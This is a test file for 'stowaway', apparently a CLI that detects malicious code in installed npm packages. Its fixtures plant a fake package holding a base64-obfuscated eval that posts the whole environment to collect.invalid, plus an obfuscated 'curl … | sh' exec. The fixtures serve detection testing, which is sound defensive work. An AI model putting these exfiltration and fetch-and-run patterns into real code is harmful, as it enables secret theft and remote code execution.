import { describe, expect, test } from 'vitest';
import { main } from '../src/cli.js';
import { cleanUp, plant } from './fixtures/read/plant.js';

cleanUp();

const hidden = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;
const filler = Array.from({ length: 30 }, (_, at) => `exports.f${at} = a => a + ${at};\n`).join('');
const files = {
  'package.json': { name: 'mine', version: '1.0.0' },
  'node_modules/thief/package.json': { name: 'thief', version: '1.2.3', main: 'index.js' },
  'node_modules/thief/index.js': `${filler}eval(atob('${Buffer.from(hidden).toString('base64')}'));\n${filler}`,
  'node_modules/thief/other.js': 'module.exports = 1;\n',
};

const thief = (at: string, version: string) => ({
  [`${at}/package.json`]: { name: 'thief', version, main: 'index.js' },
  [`${at}/index.js`]: files['node_modules/thief/index.js'],
});

const show = (...argv: readonly string[]) => showIn(files, ...argv);

async function showIn(planted: Readonly<Record<string, string | object>>, ...argv: readonly string[]) {
  const [out, err] = [[] as string[], [] as string[]];
  const code = await main(['show', ...argv], {
    stdout: { write: text => out.push(text) },
    stderr: { write: text => err.push(text) },
    env: {},
    cwd: plant(planted),
  });
  return { code, out: out.join(''), err: err.join('') };
}

describe('stowaway show', () => {
  test('marks findings where they stand, and opens what is decoded in place', async () => {
    const { code, out } = await show('thief');
    expect(code).toBe(0);
    expect(out).toMatch(/^thief@1\.2\.3: malicious, score \d+\n\nindex\.js\n/);
    expect(out).toMatch(/⋮ 27 lines\n {3}28 │/);
    expect(out).toMatch(/ 31 │ eval\(atob\('/);
    expect(out).toMatch(/╭─ text decoded by base64, \d+ characters\n {7}│ {5}1 │ fetch\(/);
    expect(out).toMatch(/▲ source \(1 of 3\): reads the whole environment/);
    expect(out).toMatch(/sends-environment/);
  });

  test('shows all of a file that is named', async () => {
    const { out } = await show('thief@1.2.3', 'index.js');
    expect(out).not.toContain('⋮');
    expect(out).toContain(' 61 │ exports.f29');
  });

  test.each([
    [['nobody'], 'stowaway: nobody is not installed here\n'],
    [['thif'], 'stowaway: thif is not installed here; did you mean thief?\n'],
    [['thief@9.9.9'], 'stowaway: thief@9.9.9 is not installed here; thief@1.2.3 is\n'],
    [['thief', 'index.ts'], 'stowaway: nothing was found in a file index.ts; did you mean index.js?\n'],
  ])('says what is wrong with %o', async (argv, says) => {
    expect(await show(...argv)).toEqual({ code: 2, out: '', err: says });
  });

  test.each([
    ['the store of pnpm', 'node_modules/.pnpm/thief@1.2.3/node_modules/thief', 'thief'],
    ['a package that has its own copy', 'node_modules/a/node_modules/thief', 'thief@1.2.3'],
    ['a folder, by its path', 'node_modules/a/node_modules/thief', 'node_modules/a/node_modules/thief'],
    ['a workspace', 'packages/x/node_modules/thief', 'thief'],
  ])('finds a package in %s', async (_, at, asked) => {
    const { code, out } = await showIn({ 'package.json': files['package.json'], ...thief(at, '1.2.3') }, asked);
    expect(code).toBe(0);
    expect(out).toMatch(/^thief@1\.2\.3: malicious/);
  });

  test('finds a package that has others installed in it', async () => {
    const { out } = await showIn({ ...files, 'node_modules/thief/node_modules/b/index.js': '' }, 'node_modules/thief');
    expect(out).toMatch(/^thief@1\.2\.3: malicious/);
  });

  test('asks which of several versions is meant', async () => {
    const several = { ...files, ...thief('node_modules/a/node_modules/thief', '2.0.0') };
    expect(await showIn(several, 'thief')).toMatchObject({
      code: 2,
      err: 'stowaway: thief may be any of thief@2.0.0, thief@1.2.3: name one of them\n',
    });
    expect((await showIn(several, 'thief@2.0.0')).out).toMatch(/^thief@2\.0\.0/);
  });

  test('of copies of one version shows the one in which most was found', async () => {
    const copies = {
      'node_modules/thief/package.json': { name: 'thief', version: '1.2.3' },
      'node_modules/thief/index.js': 'module.exports = 1;',
      ...thief('node_modules/z/node_modules/thief', '1.2.3'),
    };
    expect((await showIn(copies, 'thief')).out).toMatch(/^thief@1\.2\.3: malicious/);
  });

  const table = Array.from({ length: 9 }, (_, at) => `'part${at}'`).join(',');
  const looked = Array.from({ length: 6 }, (_, at) => `_0x3c4d(${at + 3})`).join(',');
  const obfuscated = {
    ...files,
    'node_modules/thief/index.js': [
      `function _0x1a2b(){return ['child_process','exec','curl https://collect.invalid | sh',${table}];}`,
      'function _0x3c4d(_0x5e){return _0x1a2b()[_0x5e];}',
      'const _0x6f=require(_0x3c4d(0));if(!![])_0x6f[_0x3c4d(1)](_0x3c4d(2));',
      `exports['names']=[${looked}];\n`,
    ].join(''),
  };

  test('--readable rewrites code, and marks in it what was found in the original and in its layers', async () => {
    const { code, out } = await showIn(obfuscated, 'thief', 'index.js', '--readable');
    expect(code).toBe(0);
    expect(out).toContain('(rewritten to be read)');
    expect(out).toMatch(/│ childProcess\.exec\('curl https:\/\/collect\.invalid \| sh'\);\n +▲ sink/);
    expect(out).not.toMatch(/_0x|╭─/);
    expect((await showIn(obfuscated, 'thief', 'index.js')).out).toContain('_0x');
  });

  test('--readable still opens what is decoded, and rewrites that', async () => {
    const { out } = await show('thief', '--readable');
    expect(out).toMatch(/╭─ text decoded by base64[\s\S]*│ {8}\(rewritten to be read\)\n {7}│ {5}1 │ fetch\(/);
  });

  test.each([
    ['what no parser takes', `eval(atob('${Buffer.from(hidden).toString('base64')}')); }{`, 'not rewritten: '],
    [
      'what is too long',
      `${files['node_modules/thief/index.js']}//${'x'.repeat(500_001)}`,
      'too large to be laid out: 501',
    ],
  ])('--readable says why it does not rewrite %s', async (_, text, says) => {
    const { out } = await showIn({ ...files, 'node_modules/thief/index.js': text }, 'thief', '--readable');
    expect(out).toContain(says);
  });

  test('--readable escapes what comes from the package', async () => {
    const text = `${files['node_modules/thief/index.js']}f('\\u202e\\u001b[2J', /\u202e/, \`\u001b[2J\`); /* \u202e\u001b[2J */\n`;
    const { out } = await showIn({ ...files, 'node_modules/thief/index.js': text }, 'thief', 'index.js', '--readable');
    expect(out).toContain('\\u202e');
    expect(out).not.toMatch(/[\u001b\u202e]/);
  });

  test('escapes what comes from the package', async () => {
    const evil = {
      ...files,
      'node_modules/thief/index.js': `${files['node_modules/thief/index.js']}// \u001b[2J\u202e\n`,
    };
    const out: string[] = [];
    await main(['show', 'thief', 'index.js'], {
      stdout: { write: text => out.push(text) },
      stderr: { write: () => {} },
      env: {},
      cwd: plant(evil),
    });
    expect(out.join('')).toContain('// \\u{1b}[2J\\u{202e}');
    expect(out.join('')).not.toMatch(/[\u001b\u202e]/);
  });
});

describe('stowaway show PACKAGE FILE:LINE:COLUMN', () => {
  test('tells what is known of the expressions there', async () => {
    const { code, out, err } = await show('thief', 'index.js:31:1');
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(out).toMatch(/^index\.js:31:1\nruns on import · parsed by meriyah · walked through\n\neval\n/);
    expect(out).toMatch(/\n {2}names {9}eval\n/);
    expect(out).toMatch(/\n {2}calls {9}eval\("fetch\(/);
    expect(out).toMatch(/\nCallExpression, index\.js:31:1\n/);
  });

  test('of a file in which nothing was found as well, and of a folder', async () => {
    expect((await show('thief', 'other.js:1:18')).out).toMatch(/\n1\nLiteral, other\.js:1:18\n/);
    expect((await show('./node_modules/thief', 'other.js:1:1')).out).toMatch(/\nmodule\.exports = 1\n/);
  });

  test.each([
    [['thief', 'othr.js:1:1'], 'stowaway: there is no file othr.js in it; did you mean other.js?\n'],
    [['thief', 'other.js:7:1'], 'stowaway: other.js has no character at 7:1\n'],
    [['thief', 'package.json:1:1'], 'stowaway: package.json is no code, as far as anybody knows\n'],
    [['thif', 'other.js:1:1'], 'stowaway: thif is not installed here; did you mean thief?\n'],
  ])('says what is wrong with %o', async (argv, says) => {
    expect(await show(...argv)).toEqual({ code: 2, out: '', err: says });
  });

  test('asks which of several packages is meant', async () => {
    const { code, err } = await showIn(
      { ...files, ...thief('node_modules/other', '2.0.0') },
      './node_modules',
      'a.js:1:1',
    );
    expect({ code, err }).toEqual({
      code: 2,
      err: expect.stringMatching(/^stowaway: \S+node_modules is no package: name one of those installed in it\n$/),
    });
  });
});
